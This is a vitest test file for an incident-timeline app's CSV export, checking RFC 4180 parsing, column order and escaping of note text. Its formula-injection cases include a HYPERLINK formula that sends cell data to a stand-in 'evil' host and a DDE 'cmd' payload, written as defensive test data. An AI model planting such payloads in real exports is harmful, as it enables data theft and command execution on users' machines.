import { expect, test } from 'vitest'
import { timeline } from '@/lib/share/csv'
import type { Whole } from '@/lib/model/whole'
import { timesIn } from '@/lib/story/times'
import { incident } from '@/tests/fixtures/incident'

const { whole } = incident()

/** RFC 4180, by its grammar. */
const parse = (csv: string): string[][] => {
  const rows: string[][] = []
  let [row, at]: [string[], number] = [[], 0]
  while (at < csv.length) {
    const quoted = /^"((?:[^"]|"")*)"/.exec(csv.slice(at))
    const plain = /^[^",\r\n]*/.exec(csv.slice(at))
    row.push(quoted ? (quoted[1] ?? '').replaceAll('""', '"') : (plain?.[0] ?? ''))
    at += (quoted ?? plain)?.[0].length ?? 0
    if (csv[at] === ',') at++
    else {
      expect(csv.slice(at, at + 2)).toBe('\r\n')
      at += 2
      rows.push(row)
      row = []
    }
  }
  return rows
}

const saying = (text: string): Whole => ({
  ...whole,
  steps: whole.steps.map((step) => (step.kind === 'note' ? { ...step, text } : step)),
})

test('every row has every column, in order of time', () => {
  const [head = [], ...rows] = parse(timeline(whole, timesIn('UTC')))
  expect(rows.length).toBe(33)
  expect(new Set(rows.map(({ length }) => length))).toEqual(new Set([head.length]))
  const times = rows.map(([time = '']) => time)
  expect(times).toEqual(times.toSorted())
  expect(rows.map((row) => row[2])).toEqual(expect.arrayContaining(['dead-end', 'reopened', 'fact (deploy)']))
})

test.each([
  '=HYPERLINK("http://evil?"&A1)',
  "+cmd|' /C calc'!A0",
  '@SUM(1)',
  '-2+3',
  '\t=1',
  ' =1',
  '＝1+1',
  '\u200B=1',
])('%j is no formula', (text) => {
  const cells = parse(timeline(saying(text), timesIn('UTC'))).map((row) => row[8])
  expect(cells).toContain(`'${text}`)
})

test('quotes, commas and lines come back as they were', () => {
  const text = 'a "b", c\nd'
  expect(parse(timeline(saying(text), timesIn('UTC'))).map((row) => row[8])).toContain(text)
})
